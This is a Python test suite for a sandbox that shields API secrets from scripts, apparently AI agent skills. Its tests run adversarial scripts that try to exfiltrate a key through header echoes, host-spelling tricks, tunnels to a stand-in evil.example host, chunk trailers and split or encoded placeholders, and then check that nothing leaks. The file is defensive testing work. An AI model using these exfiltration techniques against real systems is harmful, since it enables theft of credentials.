"""Attacks on the secrets by way of HTTP and TLS: framing, names, echoes, and grants that end."""

import re

import pytest

from apexbridge.sandbox.placeholders import PLACEHOLDER
from tests.secrets.conftest import VALUE, Ground
from tests.secrets.upstream import ok

pytestmark = [pytest.mark.anyio, pytest.mark.needs("bubblewrap")]

_AUTH = '{"Authorization": "Bearer " + KEY}'


def _echo_of_header(request: bytes) -> list[bytes]:
    """Return the header `X-Say`, as hosts quote an unknown name in an error."""
    said = re.search(rb"(?i)\r\nx-say: ([^\r]*)", request)
    return ok(b'{"error": "unknown model <' + (said[1] if said else b"") + b'>"}')


async def test_32_an_echo_confirms_no_guess_of_the_next_character(ground: Ground) -> None:
    ground.api.answer = _echo_of_header
    known, right = VALUE[:12], VALUE[12]
    middle, before = VALUE[10:20], VALUE[9]
    said = await ground.play(
        f"""
for guess in ({known + right!r}, {known + "~"!r}, {before + middle!r}, {"~" + middle!r}):
    print(re.sub("secret-[0-9a-f]+", "", fetch(f"https://{{API}}/", {{"X-Say": guess}})))
""".replace("print(re", "import re; print(re")
    )
    forward, wrong, backward, other = said.strip().split("\n")
    assert forward == wrong
    assert backward == other


async def test_33_the_host_is_written_as_it_was_granted(ground: Ground) -> None:
    await ground.play("""
name, port = API.split(":")
for spelling in (f"{name}.:{port}", f"API.Example:{port}", f"\\xaapi.example:0{port}"):
    lines = "GET / HTTP/1.1", f"Host: {spelling}", f"X-Key: {KEY}", "Connection: close", "", ""
    send(tunnel(API), "\\r\\n".join(lines).encode("latin-1"))
""")
    assert len(ground.api.received) >= 2
    for request in ground.api.received:
        hosts = re.findall(rb"(?i)\r\nhost: ([^\r]*)", request)
        assert hosts == [ground.api.address.encode()]


async def test_34_other_spellings_of_a_tunnel_reach_no_other_host(ground: Ground) -> None:
    said = await ground.play("""
name, port = API.split(":")
for target in (f"{name}:{PLAIN.split(':')[1]}", f"x@{API}", f"{name}:{port}@evil.example:443",
        f"{name}%00.evil.example:{port}", f"{name}\\\\.evil.example:{port}", f"[{name}]:{port}",
        f"evil.example#{API}", f"{name}.evil.example:{port}", f"{name}:+{port}",
        f"127.0.0.1:{port}"):
    try:
        ask_at = tunnel(target, name=name)
        send(ask_at, f"GET / HTTP/1.1\\r\\nHost: {API}\\r\\nX-Key: {KEY}\\r\\n\\r\\n".encode())
    except SystemExit:
        continue
    print("opened", target)
""")
    assert "opened" not in said
    assert not ground.api.received
    assert not ground.plain.received


async def test_35_chunk_extensions_and_trailers_carry_nothing(ground: Ground) -> None:
    said = await ground.play("""
ask("POST /x HTTP/1.1", f"Host: {API}", "Transfer-Encoding: chunked", "Trailer: X-Key",
    "Connection: close", body=f"1;key={KEY}\\r\\na\\r\\n0;key={KEY}\\r\\nX-Key: {KEY}\\r\\n\\r\\n")
""")
    assert " 200 " in said
    assert b"x-key:" not in ground.api.everything.lower()
    assert VALUE.encode() not in ground.api.everything
    assert not PLACEHOLDER.search(ground.api.everything)


async def test_36_a_value_in_hints_trailers_and_extensions_is_dropped(ground: Ground) -> None:
    value = VALUE.encode()
    ground.api.answer = lambda _: [
        b"HTTP/1.1 103 Early Hints\r\nLink: <" + value + b">\r\n\r\n",
        b"HTTP/1.1 200 " + value + b"\r\nTransfer-Encoding: chunked\r\nTrailer: X-T\r\n"
        b"X-" + value.replace(b'"', b"").replace(b"/", b"") + b": 1\r\n\r\n",
        b"2;x=" + value.replace(b'"', b"") + b"\r\nok\r\n0\r\nX-T: " + value + b"\r\n\r\n",
    ]
    await ground.play(f'print(fetch(f"https://{{API}}/", {_AUTH}))')


async def test_37_an_upgrade_and_a_raw_answer_end_the_connection(ground: Ground) -> None:
    value = VALUE.encode()
    answers = iter([
        [b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n" + value],
        [value + b"\r\n\r\n"],
        [b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nContent-Length: 99\r\n\r\n" + value],
        [b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" + value],
        [b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip, br\r\n\r\n" + value],
        [b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n" + value],
    ])  # fmt: skip
    ground.api.answer = lambda _: next(answers)
    said = await ground.play(
        'for _ in range(6): ask("GET / HTTP/1.1", f"Host: {API}",'
        ' "Connection: close, upgrade, x-key", "Upgrade: websocket", "X-Key: 1", f"X: {KEY}")'
    )
    assert said.count(" 502 ") >= 4
    assert b"upgrade" not in ground.api.everything.lower()
    assert b"x-key" not in ground.api.everything.lower()


async def test_38_pieces_of_a_placeholder_are_never_put_together(ground: Ground) -> None:
    await ground.play("""
half, there = len(KEY) // 2, f"https://{API}/"
coded, dashed = base64.b64encode(KEY.encode()).decode(), KEY.replace("-", "%2D")
escaped = json.dumps(KEY).replace("-", "\\\\u002d").encode()
json_type = {"Content-Type": "application/json"}
fetch(there + "?a=" + KEY[:half], {"X-A": KEY[half:], "X-B": KEY.upper(), "X-C": KEY[::-1]})
fetch(there, {"X-A": coded, "X-B": dashed})
fetch(there, {"Content-Encoding": "gzip"}, gzip.compress(KEY.encode()))
fetch(there, json_type, escaped)
fetch(there, {"Content-Type": "application/json; charset=utf-16"}, KEY.encode("utf-16"))
""")
    assert len(ground.api.received) == 5
    assert VALUE.encode() not in ground.api.everything


async def test_39_requests_of_http_1_0_and_expectations_are_held_to_the_same(
    ground: Ground,
) -> None:
    said = await ground.play("""
ask("GET / HTTP/1.0", f"X: {KEY}")
ask("GET / HTTP/1.0", f"Host: {OTHER}", f"X: {KEY}")
ask("GET / HTTP/1.0", f"Host: {API}", f"X: {KEY}")
wait = (f"Host: {API}", "Expect: 100-continue", "Connection: close")
ask("POST / HTTP/1.1", *wait, "Content-Length: 40", body=KEY[:40])
ask("POST / HTTP/1.1", *wait, f"Content-Length: {len(KEY)}", body=KEY)
""")
    assert said.count(" 400 ") + said.count(" 421 ") == 2
    assert " 403 " in said
    assert all(
        request.startswith(b"GET / HTTP/1.1") or b"POST" in request[:4]
        for request in ground.api.received
    )


async def test_40_a_revoked_grant_ends_for_a_script_that_runs(ground: Ground) -> None:
    def revoke(_: bytes) -> list[bytes]:
        ground.store.revoke("client")
        return ok()

    ground.api.answer = revoke
    said = await ground.play(f'for _ in range(2): print(fetch(f"https://{{API}}/", {_AUTH}))')
    assert "403" in said
    assert "grant_ended" in ground.audit()
    assert len(ground.api.received) == 1


async def test_41_a_skill_that_is_changed_while_it_runs_sends_no_more(ground: Ground) -> None:
    def change(_: bytes) -> list[bytes]:
        folder = ground.home / ".claude/skills/client/scripts"
        (folder / "late.py").write_text("evil", encoding="utf-8")
        return ok()

    ground.api.answer = change
    said = await ground.play(f'for _ in range(2): print(fetch(f"https://{{API}}/", {_AUTH}))')
    assert "403" in said
    assert len(ground.api.received) == 1


async def test_42_two_forms_of_json_and_a_part_come_back_redacted(ground: Ground) -> None:
    php = VALUE.replace('"', '\\"').replace("/", "\\/").encode()
    net = VALUE.replace('"', "\\u0022").replace("+", "\\u002B").encode()
    parts = VALUE[:28].encode()
    answers = iter([ok(b"[" + form + b"]") for form in (php, net, parts)])
    ground.api.answer = lambda _: next(answers)
    said = await ground.play(f'for _ in range(3): print(fetch(f"https://{{API}}/", {_AUTH}))')
    assert len(PLACEHOLDER.findall(said.encode())) == 3
    for text in (php, net, parts):
        assert not any(text[at : at + 12].decode() in said for at in range(len(text) - 12))
